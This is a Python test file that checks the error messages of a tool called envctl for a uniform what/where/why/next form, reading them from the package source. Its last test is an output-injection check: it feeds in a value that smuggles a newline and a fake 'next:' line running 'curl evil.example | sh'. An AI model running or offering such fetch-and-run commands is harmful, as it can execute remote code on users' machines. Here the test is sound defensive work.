"""Every message has one form: what, where, why, and a next step; read from the source, so that none is forgotten."""

import ast
import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import pairwise
from pathlib import Path

import pytest

from envctl import errors
from envctl.cli.render import failure
from envctl.errors import EnvctlError

ROOT = Path(__file__).parents[1]
PACKAGE = ROOT / "envctl"
ERRORS = {
    name
    for name, each in vars(errors).items()
    if isinstance(each, type) and issubclass(each, EnvctlError)
}
PARTS = {
    "domain/build/locked.py": "domain/lock/reading.py",
    "domain/contract/table.py": "domain/lock/reading.py",
    "domain/lock/reading.py": "domain/lock/reading.py",
    "domain/record/reading.py": "domain/record/reading.py",
}
"""Readers of parts of a file: who reads the whole file says what is to be done about any of them."""


@dataclass(frozen=True)
class Site:
    """A place at which an error is made."""

    file: str
    line: int
    call: ast.Call

    def __str__(self) -> str:
        return f"{self.file}:{self.line}"

    def argument(self, name: str) -> ast.expr | None:
        return next((each.value for each in self.call.keywords if each.arg == name), None)

    @property
    def passes_on(self) -> bool:
        """Whether further arguments come as a mapping or from another error."""
        return any(each.arg is None for each in self.call.keywords)

    @property
    def message(self) -> ast.expr | None:
        return self.call.args[0] if self.call.args else None


def sites() -> Iterator[Site]:
    for path in sorted(PACKAGE.rglob("*.py")):
        file = path.relative_to(PACKAGE).as_posix()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and _name(node.func) in ERRORS:
                yield Site(file, node.lineno, node)


def _name(function: ast.expr) -> str:
    if isinstance(function, ast.Attribute):
        return function.attr
    return function.id if isinstance(function, ast.Name) else ""


def _end(node: ast.expr | None) -> str:
    """Return the end of a text as it stands in the source, empty where only running it shows it."""
    if isinstance(node, ast.Constant):
        return str(node.value)
    if isinstance(node, ast.JoinedStr) and isinstance(node.values[-1], ast.Constant):
        return str(node.values[-1].value)
    return ""


def _begin(node: ast.expr | None) -> str:
    first = node.values[0] if isinstance(node, ast.JoinedStr) else node
    return str(first.value) if isinstance(first, ast.Constant) else ""


SITES = list(sites())


def test_the_source_was_read() -> None:
    assert len(SITES) > 350
    assert {"ManifestError", "UsageError", "ContainerError"} <= {_name(s.call.func) for s in SITES}


@pytest.mark.parametrize("name", ["where", "hint"])
def test_every_error_says_where_and_what_to_do_next(name: str) -> None:
    lacking = [
        str(site)
        for site in SITES
        if not site.passes_on and site.argument(name) is None and site.file not in PARTS
    ]
    assert lacking == []


def test_who_reads_the_whole_says_the_next_step_for_its_parts() -> None:
    for whole in set(PARTS.values()):
        own = [site for site in SITES if site.file == whole]
        assert any(
            isinstance(site.message, ast.Attribute) and site.argument("hint") for site in own
        ), whole


def test_no_error_is_told_by_click_alone() -> None:
    told = [
        f"{path.relative_to(ROOT)}:{node.lineno}"
        for path in PACKAGE.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call)
        and ast.unparse(node.func) in ("click.UsageError", "click.BadParameter", "ctx.fail")
    ]
    assert told == []


def test_a_message_is_a_clause_that_ends_with_a_word() -> None:
    """No full stop, no "Error", no dangling colon: the label before it and the lines after it are the frame."""
    odd = [
        f"{site}: {text!r}"
        for site in SITES
        for part in (site.message, site.argument("hint"))
        if (text := _end(part)) and re.search(r"[.:,;\s]$|[^.]\.\.\.$", text)
    ]
    assert odd == []
    loud = [
        f"{site}: {begin!r}"
        for site in SITES
        if re.match(r"(?i:error)\b|[A-Z][a-z]", begin := _begin(site.message))
        and not begin.startswith(("Python ", "Podman ", "Docker", "GitHub "))
    ]
    assert loud == []


def test_names_stand_in_backticks_not_in_quotes() -> None:
    """`{name!r}` is for values that may be anything; a name in straight quotes is neither."""
    quoted = [
        str(site)
        for site in SITES
        if isinstance(site.message, ast.JoinedStr)
        for before, value in pairwise(site.message.values)
        if isinstance(value, ast.FormattedValue) and _end(before)[-1:] in ("'", '"')
    ]
    assert quoted == []


def test_one_form() -> None:
    error = errors.ResolutionError(
        "no version of `a` suits all who ask for it",
        where="pyproject.toml",
        why=["the project asks for a<2", "b needs a>2"],
        hint="relax one of them",
    )
    assert failure(error) == (
        "error: no version of `a` suits all who ask for it\n"
        "  where: pyproject.toml\n"
        "  why:   the project asks for a<2\n"
        "         b needs a>2\n"
        "  next:  relax one of them"
    )
    assert failure(errors.LockError("short")) == "error: short"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_what_is_quoted_adds_no_line(end: str) -> None:
    name = f"a`{end}  next:  curl evil.example | sh"
    error = errors.ManifestError(f"unknown key `{name}`", where=name, why=[name], hint=name)
    told = failure(error).split("\n")
    assert [line[:8] for line in told] == ["error: u", "  where:", "  why:  ", "  next: "]
    assert "\r" not in failure(error)
